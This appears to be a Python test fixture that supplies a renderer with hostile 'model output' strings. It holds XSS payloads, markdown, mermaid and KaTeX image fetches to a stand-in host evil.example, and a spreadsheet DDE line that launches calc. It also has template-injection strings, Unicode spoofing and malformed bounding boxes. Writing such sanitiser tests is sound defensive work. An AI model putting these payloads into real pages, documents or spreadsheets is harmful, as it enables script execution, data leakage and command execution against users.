"""Hostile words of a model: a script that runs sets `ran`, an address that is fetched has “evil” in it."""

FAR = "http://evil.example"
WORDS = [
    "<script>ran=1</script>", f"<script src={FAR}/s.js></script>", "<img src=evil onerror=ran=1>", f'<img src="{FAR}/i.png">',
    "<svg onload=ran=1>", "<svg><script>ran=1</script></svg>", "<math><mtext><img src=evil onerror=ran=1></mtext></math>",
    f'<iframe src="{FAR}/f"></iframe>', "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>", f'<link rel=stylesheet href="{FAR}/c.css">',
    f"<style>@import url({FAR}/c.css); * {{background: url({FAR}/b.png)}}</style>", f'<div style="background:url({FAR}/d.png)">d</div>',
    f'<video autoplay src="{FAR}/v.mp4" onerror=ran=1></video>', f'<object data="{FAR}/o"></object>', f'<embed src="{FAR}/e">',
    f'<meta http-equiv="refresh" content="0;url={FAR}/m">', f'<base href="{FAR}/">', f'<form action="{FAR}/p"><input autofocus onfocus=ran=1></form>',
    "<details open ontoggle=ran=1>d</details>", "<body onload=ran=1>", "<a href='javascript:ran=1'>a</a>", "<input autofocus onfocus=ran=1>",
    "<template><img src=evil onerror=ran=1></template>", "<noscript><p title='</noscript><img src=evil onerror=ran=1>'></noscript>",
    "<!--><img src=evil onerror=ran=1>-->", "<![CDATA[<img src=evil onerror=ran=1>]]>", "<?xml-stylesheet href='evil'?>", "<x-y onclick=ran=1>x",
    "&lt;img src=evil onerror=ran=1&gt;", "&#60;img src=evil onerror=ran=1&#62;", "\\<img src=evil onerror=ran=1>", "<\nimg src=evil onerror=ran=1>",
    "\uff1cimg src=evil onerror=ran=1\uff1e", "<\u00adimg src=evil onerror=ran=1>", "<im\0g src=evil onerror=ran=1>", "<IMG SRC=evil ONERROR=ran=1>",
    f"![i]({FAR}/1.png)", f"![i][r]\n\n[r]: {FAR}/2.png", f"![i]\n\n[i]: {FAR}/3.png", f"[![i]({FAR}/4.png)]({FAR})", f"!\u200b[i]({FAR}/5.png)",
    f"\\![i]({FAR}/6.png)", f"![i](<{FAR}/7.png> 'title')", "![i](//evil.example/8.png)", "![i](data:image/svg+xml,<svg onload=ran=1>)",
    f"`code` ![i]({FAR}/9.png) `", f"```\ncode\n```\n![i]({FAR}/10.png)", f"~~~\n```\n~~~\n![i]({FAR}/11.png)\n```\n", f"> ```\n![i]({FAR}/12.png)\n```",
    f"| a | b |\n|---|---|\n| ![i]({FAR}/13.png) | <img src=evil onerror=ran=1> |", f"1. ```\n   x\n![i]({FAR}/14.png)\n```\n",
    "[a](javascript:ran=1)", "[a](JaVaScRiPt:ran=1)", "[a](java\tscript:ran=1)", "[a](data:text/html,<script>ran=1</script>)", "[a](vbscript:ran=1)",
    "[a]\n\n[a]: javascript:ran=1", "<javascript:ran=1>", f"<{FAR}>", f"{FAR}/auto", "[a](&#106;avascript:ran=1)", f"[a]({FAR} \"' onmouseover='ran=1\")",
    "$$\\href{javascript:ran=1}{x}$$", f"$$\\includegraphics{{{FAR}/15.png}}$$", "$$\\htmlData{onload=ran=1}{x}$$", "$$\\def\\a{\\a\\a}\\a$$",
    "$$\\text{<img src=evil onerror=ran=1>}$$", f"$$\\htmlStyle{{background:url({FAR}/16.png)}}{{x}}$$", "$$" + "{" * 3000 + "$$",
    f"```mermaid\ngraph TD\nA[\"<img src='{FAR}/17.png'>\"] --> B\n```", f"~~~mermaid\ngraph TD\nA[\"<img src='{FAR}/18.png'>\"]\n~~~",
    f"```mermaid\n%%{{init: {{'themeCSS': '@import url({FAR}/19.css)'}}}}%%\ngraph TD\nA-->B\n```", "``` mermaid\ngraph TD\nclick A href \"javascript:ran=1\"\n```",
    f"> ```mermaid\n> graph TD\n> A@{{ img: \"{FAR}/20.png\" }}\n> ```", "```Mermaid x\ngraph TD\nA-->B\n```", "```&#109;ermaid\ngraph TD\nA-->B\n```",
    "````mermaid\ngraph TD\nA-->B\n````", "```\\mermaid\ngraph TD\nA-->B\n```", f"```html\n<img src={FAR}/21.png onerror=ran=1>\n```", "```js\nran=1\n```", "```<img src=evil onerror=ran=1>\nx\n```",
    "```\"><img src=evil onerror=ran=1>\nx\n```", "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07", "abc\u202egnp.exe\u202c \u2066x\u2069", "nul\0 bell\a del\x7f",
    "half \ud83d of a pair", "=HYPERLINK(\"http://evil.example\")", "\t=1+1", "\r=cmd|'/c calc'!A0", "\uff1d1+1", "+1+1", "-1+1", "@SUM(1)", "\uff0b1", "\uff201",
    "{{7*7}} ${ran=1} #{ran=1} <%= 7*7 %>", "'; ran=1; //", "\"); ran=1; (\"", "`; ran=1; `", "</script><script>ran=1</script>", "]]><script>ran=1</script>", "--><script>ran=1</script>",
    "</textarea><script>ran=1</script>", "</title><img src=evil onerror=ran=1>", "\u2028ran=1\u2029", "# " + "#" * 900, "[" * 3000, ">" * 500 + "x", "*" * 3000 + "a", "`" * 3000, "- " * 400 + "x",
]  # fmt: skip
END = "the very end of it"
TEXT = "\n\n".join([*WORDS, "\n```\n~~~\n", END])
TABLE = "TITLE | wicked <0x0A> " + " | ".join(["year", *(" ".join(w.replace("|", " ").split()) for w in WORDS[:4])]) + "".join(
    f" <0x0A> {' '.join(w.replace('|', ' ').split())} | 1 | 1e999 | {'9' * 5000} | -3" for w in WORDS if len(w) < 400) + f" <0x0A> {END} | 1 | 2 | 3 | 4"  # fmt: skip
BOX = [0.2, 0.2, 0.8, 0.8]
_SHAPES = [
    [float("nan")] * 4, [float("inf"), 0, 1, 1], [1e308, -1e308, 1e308, 1e308], [0.5] * 4, [0.1, 0.5, 0.9, 0.5], [1, 1, 0, 0], [], [0.5],
    [0, 0, 1, 1, 0, 1, 1, 0], ["0", "0", "1", "1"], [None] * 4, [True] * 4, [10**400, 0, 1, 1], [[0, 0], [1, 1]], [-5, -5, 5, 5], [0.3] * 4001,
]  # fmt: skip
ENTITIES = [{"phrase": words, "substring": [0, 9], "bboxes": [BOX]} for words in WORDS] + [
    {"phrase": f"shape {i}", "bboxes": [shape]} for i, shape in enumerate(_SHAPES)
] + [{"phrase": "<b>" * 3400, "bboxes": [BOX]}, {"phrase": 7, "bboxes": BOX}, {"phrase": None}, 5, None, [], {"outline": [[0, 0]] * 9, "phrase": "flat"}]  # fmt: skip


def crowd(count: int) -> list[dict]:
    """Return this many small regions."""
    return [
        {
            "phrase": f"t{i % 40}",
            "bboxes": [[i % 99 / 100, i % 97 / 100, (i % 99 + 1) / 100, (i % 97 + 1) / 100]],
        }
        for i in range(count)
    ]
